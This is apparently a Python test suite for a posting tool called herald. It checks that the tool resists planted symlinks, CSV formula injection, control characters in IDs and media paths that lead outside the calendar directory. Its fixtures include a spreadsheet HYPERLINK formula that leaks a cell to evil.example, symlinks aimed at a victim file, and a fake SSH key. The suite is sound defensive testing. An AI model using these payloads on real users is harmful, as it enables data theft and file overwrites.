"""What herald writes and reads on the local machine, against a hostile neighbour or input:
planted symlinks in the outbox and at a report page, spreadsheet formulas in CSV, a `post --id`
with control characters, and a state that the user can read but not write."""

import csv
import io
import json
import os
import shutil
import subprocess

from harness import HERALD, STUB_ACCOUNTS, HeraldTest, main

BEFORE = "2026-11-30T00:00:00Z"
AT = "2026-12-01T09:00:30Z"

CALENDAR = """
name: shop
timezone: UTC
accounts:
  notes:
    platform: stub
    dir: outbox
posts:
  - id: launch
    at: 2026-12-01T09:00:00Z
    to: [notes]
    campaign: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    text: hello
  - id: "-2"
    at: 2026-12-01T09:00:00Z
    to: [notes]
    campaign: "@SUM(1+1)"
    text: hello again
"""


class LocalFilesTest(HeraldTest):
    def setUp(self):
        super().setUp()
        self.write("herald.yaml", CALENDAR)
        self.victim = self.write("victim.txt", "precious\n")

    def publish(self):
        self.assertExit(self.herald("run", "--now", BEFORE), 0)
        r = self.herald("run", "--now", AT)
        self.assertExit(r, 0)
        return r

    def test_the_outbox_never_follows_a_planted_symlink(self):
        (self.dir / "outbox").mkdir()
        # The temporary name an earlier herald used, planted by someone who can write there.
        os.symlink(self.victim, self.dir / "outbox" / "launch~notes.json.tmp")
        self.publish()
        self.assertEqual(self.victim.read_text(), "precious\n")
        box = self.outbox()
        self.assertEqual(sorted(box), ["-2~notes.json", "launch~notes.json"])
        self.assertEqual(box["launch~notes.json"]["parts"][0]["text"], "hello")
        leftovers = [p.name for p in (self.dir / "outbox").iterdir()
                     if not p.name.endswith(".json") and not p.is_symlink()]
        self.assertEqual(leftovers, [])

    def test_the_html_report_replaces_a_symlink_instead_of_writing_through_it(self):
        self.publish()
        os.symlink(self.victim, self.dir / "report.html")
        r = self.herald("report", "--now", "2026-12-04T00:00:00Z", "--since", "7d",
                        "--html", "report.html", "-q")
        self.assertExit(r, 0)
        self.assertEqual(self.victim.read_text(), "precious\n")
        self.assertFalse((self.dir / "report.html").is_symlink())
        self.assertIn("<table", (self.dir / "report.html").read_text())

    def test_csv_cells_that_look_like_formulas_stay_text(self):
        self.publish()
        r = self.herald("report", "--now", "2026-12-04T00:00:00Z", "--since", "7d",
                        "--by", "campaign", "--format", "csv")
        self.assertExit(r, 0)
        rows = list(csv.reader(io.StringIO(r.out)))
        self.assertEqual(sorted(row[0] for row in rows[1:]),
                         ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
                          "'@SUM(1+1)"])
        by_post = self.herald("report", "--now", "2026-12-04T00:00:00Z", "--since", "7d",
                              "--format", "csv")
        keys = [row[0] for row in csv.reader(io.StringIO(by_post.out))][1:]
        self.assertEqual(sorted(keys), ["'-2/notes", "launch/notes"])

    def test_post_id_follows_the_calendar_rule(self):
        for bad, shown in (("..", "'..' needs at least one letter or digit"),
                           ("a\nb", "'a\\x0ab' may only contain letters, digits, '_', '.', ':' "
                                    "and '-'"),
                           ("x\x1b[2J", "'x\\x1b[2J' may only contain letters, digits, '_', "
                                        "'.', ':' and '-'")):
            with self.subTest(id=bad):
                r = self.herald("post", "--to", "notes", "--text", "x", "--id", bad,
                                "--now", AT)
                self.assertExit(r, 2)
                self.assertIn(f"herald post: error: --id: post id {shown}", r.err)
                self.assertNotIn("\x1b", r.err)
        self.assertFalse(self.state.exists())
        r = self.herald("post", "--to", "notes", "--text", "x", "--id", "release-2.1", "--now", AT)
        self.assertExit(r, 0)

    def test_status_and_history_read_a_state_they_cannot_write(self):
        self.publish()
        self.assertExit(self.herald("post", "--to", "notes", "--text", "later", "--at",
                                    "2026-12-09T09:00:00Z", "--now", AT), 0)
        expected_status = self.herald("--json", "status").json()
        expected_history = self.herald("--json", "history").json()
        self.assertEqual(len(expected_history), 2)
        state_dir = self.state.parent
        os.chmod(self.state, 0o400)
        os.chmod(state_dir, 0o500)
        prefix = []
        try:
            if os.geteuid() == 0:
                # root writes whatever the modes say: run as nobody, then the owner of the state.
                if not shutil.which("setpriv"):
                    self.skipTest("running as root without setpriv to drop privileges")
                os.chmod(self.dir, 0o755)
                for path in (self.dir / "herald.yaml", self.state, state_dir):
                    os.chown(path, 65534, 65534)
                prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
            before = sorted(os.listdir(state_dir))
            for command, expected in (("status", expected_status), ("history", expected_history)):
                done = subprocess.run(prefix + [HERALD, "-c", "herald.yaml", "--json", command],
                                      cwd=self.dir, env=self.env, capture_output=True, text=True,
                                      timeout=60)
                self.assertEqual(done.returncode, 0, done.stderr)
                self.assertEqual(json.loads(done.stdout), expected)
            # Nothing was created beside it (no WAL files left by a reader).
            self.assertEqual(sorted(os.listdir(state_dir)), before)
        finally:
            os.chmod(state_dir, 0o700)
            if prefix:
                os.chown(state_dir, 0, 0)


MEDIA_CALENDAR = """
timezone: UTC
accounts:
  notes:
    platform: stub
    dir: outbox
posts:
  - id: leak
    at: 2026-12-01T09:00:00Z
    to: [notes]
    text: look
    media:
      - {{file: {outside}, alt: a key}}
      - {{file: link.png, alt: a link out}}
      - {{file: shot.png, alt: fine}}
      - {{file: fake.gif, alt: not a gif}}
"""


class MediaTest(HeraldTest):
    def setUp(self):
        super().setUp()
        self.elsewhere = self.dir.parent / (self.dir.name + "-elsewhere")
        self.elsewhere.mkdir()
        self.addCleanup(shutil.rmtree, self.elsewhere, True)
        self.secret = self.elsewhere / "id_ed25519.png"
        self.secret.write_bytes(b"\x89PNG pretend this is a private key")
        self.write("shot.png", b"\x89PNG\r\n\x1a\n")
        self.write("fake.gif", b"#!/bin/sh\necho not a picture\n")
        os.symlink(self.secret, self.dir / "link.png")

    def test_validate_refuses_media_from_outside_the_calendar_and_checks_their_bytes(self):
        self.write("herald.yaml", MEDIA_CALENDAR.format(outside=self.secret))
        r = self.herald("validate")
        self.assertExit(r, 2)
        how = "allow another directory with 'media_dir:' on the post or in 'defaults:'"
        self.assertIn(f"herald.yaml:12:16: error: media file '{self.secret}' is outside the "
                      f"calendar's directory ({self.dir}); {how}", r.err)
        self.assertIn(f"herald.yaml:13:16: error: media file 'link.png' is a symbolic link to "
                      f"{self.secret.resolve()}, outside the calendar's directory ({self.dir}); "
                      f"{how}", r.err)
        self.assertIn("herald.yaml:15:16: error: media file 'fake.gif' is not an image, video or "
                      "audio file by its content", r.err)
        self.assertNotIn("shot.png", r.err)
        self.assertExit(self.herald("run", "--now", "2026-12-01T09:00:10Z"), 2)
        self.assertEqual(self.outbox(), {})

        # An explicit media directory allows the outside file and the link into it.
        self.write("herald.yaml", MEDIA_CALENDAR.format(outside=self.secret).replace(
            "      - {file: fake.gif, alt: not a gif}\n", "")
            .replace("    text: look\n", f"    text: look\n    media_dir: {self.elsewhere}\n"))
        r = self.herald("validate")
        self.assertExit(r, 0)

    def test_post_takes_media_from_the_current_directory_or_media_dir(self):
        self.write("herald.yaml", MEDIA_CALENDAR.split("posts:")[0] + "posts: []\n")
        r = self.herald("post", "--to", "notes", "--text", "x", "--media", self.secret,
                        "--alt", "a key", "--now", AT)
        self.assertExit(r, 2)
        self.assertIn(f"media file '{self.secret}' is outside the current directory ({self.dir}); "
                      f"allow another directory with --media-dir", r.err)
        r = self.herald("post", "--to", "notes", "--text", "x", "--media", "link.png",
                        "--alt", "a link", "--now", AT)
        self.assertExit(r, 2)
        self.assertIn("media file 'link.png' is a symbolic link to", r.err)
        self.assertEqual(self.outbox(), {})
        r = self.herald("post", "--to", "notes", "--text", "x", "--media", "link.png",
                        "--alt", "a link", "--media-dir", self.elsewhere, "--now", AT)
        self.assertExit(r, 0)


if __name__ == "__main__":
    main()
